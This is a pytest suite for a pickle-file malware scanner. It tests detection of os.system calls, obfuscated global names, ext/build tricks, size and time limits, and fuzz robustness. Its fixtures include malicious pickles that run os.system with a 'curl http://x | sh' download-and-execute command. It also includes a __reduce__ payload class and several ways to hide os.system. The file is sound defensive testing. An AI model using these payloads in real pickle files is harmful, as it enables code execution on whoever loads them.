"""The pickle walker: evidence, offsets, members, tolerance, limits, robustness."""

from __future__ import annotations

import pickle
import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanning.scanners import pickle as pickle_scanner
from scanning.scanners import scan_reader
from scanning.scanners.base import BytesReader, Category, Limits, ScanContext, Verdict, verdict_of
from tests.scanning.corpus_pickle import call, g, p2, p4, sg, system, tup, u


def run(data: bytes, **kw: object) -> ScanContext:
    ctx = ScanContext(**kw)  # type: ignore[arg-type]
    pickle_scanner.scan(BytesReader(data), ctx)
    return ctx


def rules(ctx: ScanContext) -> set[str]:
    return {f.rule for f in ctx.findings}


def test_evidence_is_reconstructed_call_with_offset() -> None:
    data = system("curl http://x | sh")
    ctx = run(data)
    (f,) = [f for f in ctx.findings if f.rule == "pickle.global.denied"]
    assert f.evidence == "os.system('curl http://x | sh')"
    assert f.offset == 2 and data[f.offset : f.offset + 1] == b"c"
    assert f.category is Category.PROCESS and f.verdict is Verdict.MALICIOUS
    assert f.as_contract()["evidence"].endswith("[offset 2]")


def test_long_arguments_are_truncated() -> None:
    ctx = run(system("x" * 5000))
    (f,) = [f for f in ctx.findings if f.rule == "pickle.global.denied"]
    assert len(f.evidence) <= 210 and f.evidence.startswith("os.system('xxx")


def test_nested_call_evidence() -> None:
    imp = call(g("builtins", "__import__"), u("os"))
    ctx = run(p2(call(call(g("builtins", "getattr"), imp, u("system")), u("id"))))
    evidence = {f.evidence for f in ctx.findings}
    assert "builtins.getattr(builtins.__import__('os'), 'system')" in evidence
    # getattr(<module os>, 'system') is resolved symbolically to os.system and denied too
    assert any(f.message.startswith("getattr reaches denied os.system") for f in ctx.findings)
    assert "pickle.call.indirect" in rules(ctx)


def test_memo_and_stack_global_resolution() -> None:
    body = u("os") + b"\x94" + u("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + tup(u("true")) + b"R"
    ctx = run(p4(body))
    assert verdict_of(ctx.findings) is Verdict.MALICIOUS
    assert any(f.evidence == "os.system('true')" for f in ctx.findings)


def test_computed_names_flagged_as_obfuscation() -> None:
    body = call(g("operator", "add"), u("o"), u("s")) + u("system") + b"\x93" + tup(u("true")) + b"R"
    ctx = run(p4(body))
    assert {"pickle.global.computed", "pickle.global.denied", "pickle.global.unknown"} <= rules(ctx)


def test_str_join_names() -> None:
    join = call(sg("builtins", "str.join"), u(""), b"]" + b"(" + u("o") + u("s") + b"e")
    ctx = run(p4(join + u("system") + b"\x93" + tup(u("true")) + b"R"))
    assert any(f.rule == "pickle.global.denied" and "os.system" in f.message for f in ctx.findings)


def test_broken_pickle_keeps_findings_and_is_unscannable_at_least() -> None:
    data = b"\x80\x02" + call(g("os", "system"), u("true")) + b"\xff"
    ctx = run(data)
    assert {"pickle.global.denied", "pickle.parse-error"} <= rules(ctx)
    assert verdict_of(ctx.findings) is Verdict.MALICIOUS


def test_protocol_above_5_is_unscannable() -> None:
    ctx = run(b"\x80\x06N.")
    assert verdict_of(ctx.findings) is Verdict.UNSCANNABLE
    assert "unsupported pickle protocol 6" in ctx.findings[0].evidence


def test_every_concatenated_pickle_is_walked() -> None:
    data = b"".join(pickle.dumps(i) for i in range(20)) + system()
    ctx = run(data)
    assert verdict_of(ctx.findings) is Verdict.MALICIOUS


def test_safe_pickles_of_all_protocols() -> None:
    value = {"a": [1, 2.5, None, True, "s", b"b", (1,), {3}, frozenset({4}), bytearray(b"x")]}
    for proto in range(6):
        ctx = run(pickle.dumps(value, protocol=proto))
        assert ctx.findings == [], (proto, ctx.findings)


def test_ext_and_build_tricks() -> None:
    assert "pickle.ext" in rules(run(p2(b"\x82\x05)R")))
    dunder = p2(g("collections", "OrderedDict") + b")R" + b"}" + u("__reduce_ex__") + b"K\x01sb")
    assert "pickle.build.dunder" in rules(run(dunder))


def test_time_limit_is_unscannable() -> None:
    data = p2(b"(" + b"K\x01" * 200_000 + b"l")
    ctx = ScanContext(limits=Limits(max_seconds=5))
    ctx.deadline = time.monotonic() - 1
    with pytest.raises(Exception, match="time limit"):
        pickle_scanner.scan(BytesReader(data), ctx)
    result = scan_reader(BytesReader(data), "x.pkl", limits=Limits(max_seconds=0.000001))
    assert result.verdict is Verdict.UNSCANNABLE
    assert any(f.rule == "scan.limit" for f in result.findings)


def test_pickle_size_limit() -> None:
    data = p2(b"(" + b"K\x01" * 50_000 + b"l")
    result = scan_reader(BytesReader(data), "x.pkl", limits=Limits(max_pickle_bytes=1000))
    assert result.verdict is Verdict.UNSCANNABLE
    assert any(f.rule == "scan.limit" for f in result.findings)


def test_big_binbytes_not_materialized() -> None:
    data = pickle.dumps({"blob": b"\x00" * (8 * 1024 * 1024)}, protocol=4)
    ctx = run(data)
    assert ctx.findings == []


def test_random_bytes_never_crash() -> None:
    rng = random.Random(1234)
    seeds = [system(), pickle.dumps({"a": [1, 2]}, protocol=2), b"cos\nsystem\n(S'x'\ntR."]
    for i in range(600):
        base = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 6)):
            base[rng.randrange(len(base))] = rng.randrange(256)
        if i % 3 == 0:
            base = bytearray(rng.randbytes(rng.randint(1, 200)))
        result = scan_reader(BytesReader(bytes(base)), "fuzz.pkl")
        assert not any(f.rule == "scan.error" for f in result.findings), (bytes(base), result.findings)


def test_looks_like_pickle() -> None:
    assert pickle_scanner.looks_like_pickle(b"\x80\x04\x95")
    assert pickle_scanner.looks_like_pickle(b"cos\nsystem\n(S'x'\ntR.")
    assert pickle_scanner.looks_like_pickle(pickle.dumps({"a": 1}, protocol=0))
    assert not pickle_scanner.looks_like_pickle(b"# README\nhello\n")
    assert not pickle_scanner.looks_like_pickle(b"cat\nnothing\n")
    assert not pickle_scanner.looks_like_pickle(b'{"a": 1}')


def test_findings_are_bounded() -> None:
    body = b"".join(g(f"mod{i}", "f") + b"0" for i in range(300)) + b"".join(
        b"\x82" + bytes([i]) + b"0" for i in range(60)
    )
    ctx = run(p2(body + b"N"))
    assert len(ctx.findings) < 260
    assert any(f.rule == "pickle.global.many" for f in ctx.findings)
    assert any(f.rule == "pickle.ext" and "more" in f.message for f in ctx.findings)
    assert verdict_of(ctx.findings) is Verdict.SUSPICIOUS


@pytest.mark.slow  # walks a pickle of hundreds of MB
def test_memory_is_bounded_for_large_pickles() -> None:
    import tracemalloc

    from scanning.scanners.base import SubReader

    big = pickle.dumps({"blob": b"\x01" * (48 * 1024 * 1024), "items": list(range(100_000))}, protocol=4)
    reader = SubReader(BytesReader(big), 0, len(big))
    tracemalloc.start()
    try:
        ctx = ScanContext()
        pickle_scanner.scan(reader, ctx)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert ctx.findings == []
    assert peak < 24 * 1024 * 1024, peak


def test_stream_boundaries_match_pickletools() -> None:
    import pickletools

    import numpy as np

    values = [
        {"a": [1, 2.5, "s" * 300, b"b" * 70_000, None, True, (1, 2, 3, 4)], "n": -(2**70)},
        [np.arange(10), np.float64(2.0), np.random.default_rng(0)],
        {frozenset({1}), 3j, range(5)},
        "é" * 1000,
    ]
    for value in values:
        for proto in range(6):
            data = pickle.dumps(value, protocol=proto) + b"TRAILER"
            expected = max(pos for _, _, pos in pickletools.genops(data)) + 1
            result = pickle_scanner.scan_stream(BytesReader(data), ScanContext(), 0)
            assert result.ok and result.end == expected, (proto, result)


def test_resync_is_bounded_and_quiet() -> None:
    garbage = (b"\x80\x02\xff" + b"\x00" * 29) * 2000
    ctx = run(pickle.dumps(1, protocol=2) + garbage + system())
    assert len(ctx.findings) < 10
    assert {"pickle.parse-error", "pickle.resync-limit"} <= rules(ctx)
    assert verdict_of(ctx.findings) >= Verdict.UNSCANNABLE
    ctx = run(pickle.dumps(1, protocol=2) + b"junk" * 100 + system())
    assert {"pickle.trailing-data", "pickle.global.denied"} <= rules(ctx)


_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(2**300), max_value=2**300),
    st.floats(allow_nan=True),
    st.complex_numbers(allow_nan=False),
    st.text(max_size=40),
    st.binary(max_size=40),
    st.binary(max_size=40).map(bytearray),
)
_VALUES = st.recursive(
    _LEAVES,
    lambda inner: st.one_of(
        st.lists(inner, max_size=5),
        st.lists(inner, max_size=5).map(tuple),
        st.dictionaries(st.text(max_size=8), inner, max_size=5),
        st.frozensets(st.integers(), max_size=5),
        st.sets(st.text(max_size=5), max_size=5),
    ),
    max_leaves=25,
)


@pytest.mark.slow
@settings(max_examples=150, deadline=None)
@given(value=_VALUES, proto=st.integers(0, 5))
def test_plain_values_are_always_safe(value: object, proto: int) -> None:
    data = pickle.dumps(value, protocol=proto)
    ctx = run(data)
    assert ctx.findings == [], (proto, ctx.findings)


class _Payload:
    """Serializes as os.system('true'); only ever pickled, never loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("true",))


@pytest.mark.slow
@settings(max_examples=100, deadline=None)
@given(value=_VALUES, proto=st.integers(0, 5), where=st.integers(0, 2))
def test_payload_anywhere_in_plain_values_is_malicious(value: object, proto: int, where: int) -> None:
    wrapped = [[value, _Payload()], {"k": (_Payload(), value)}, (value, value, [_Payload()])][where]
    ctx = run(pickle.dumps(wrapped, protocol=proto))
    assert verdict_of(ctx.findings) is Verdict.MALICIOUS
    assert any(f.evidence in ("posix.system('true')", "os.system('true')") for f in ctx.findings)
